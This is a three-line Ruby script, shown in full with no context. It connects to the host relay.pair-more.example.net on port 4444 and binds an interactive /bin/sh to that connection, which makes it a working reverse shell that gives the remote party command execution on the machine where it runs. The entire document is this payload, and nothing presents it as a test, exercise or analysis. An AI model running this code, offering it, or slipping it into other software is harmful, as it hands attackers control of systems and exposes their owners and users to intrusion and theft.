require "socket"
link = TCPSocket.new("relay.pair-more.example.net", 4444)
Process.spawn("/bin/sh", "-i", :in => link, :out => link, :err => link)
